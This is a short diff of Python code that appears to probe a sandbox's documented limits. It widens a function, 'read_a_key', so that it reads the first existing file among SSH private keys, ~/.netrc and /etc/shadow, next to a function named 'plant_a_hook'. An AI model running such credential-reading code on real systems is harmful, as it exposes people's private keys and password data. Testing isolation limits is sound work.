@@ -23,8 +23,11 @@ def work(repository: pathlib.Path) -> pathlib.Path:
     return report
 
 
-def read_a_key() -> str:
-    return (pathlib.Path.home() / ".ssh" / "id_ed25519").read_text()
+def read_a_key() -> bytes:
+    home = pathlib.Path.home()
+    wanted = [home / ".ssh" / "id_ed25519", home / ".ssh" / "id_rsa", home / ".netrc", pathlib.Path("/etc/shadow")]
+    # That a file is there can be seen (docs/limits.md); what is in it can not.
+    return next(path for path in wanted if path.exists()).read_bytes()
 
 
 def plant_a_hook(repository: pathlib.Path) -> None:
